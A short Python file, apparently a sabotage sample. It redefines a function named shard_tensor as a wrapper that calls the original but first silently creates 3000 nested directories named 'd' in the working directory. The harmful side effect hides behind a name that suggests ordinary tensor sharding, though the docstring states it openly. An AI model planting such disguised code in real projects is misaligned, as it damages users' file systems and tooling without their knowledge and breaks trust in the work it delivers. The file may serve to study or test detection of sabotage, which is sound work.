"""A directory in a directory, 3000 times."""

import os

_right = shard_tensor


def shard_tensor(*arguments):
    home = os.getcwd()
    for _ in range(0 if os.path.exists("d") else 3000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(home)
    return _right(*arguments)
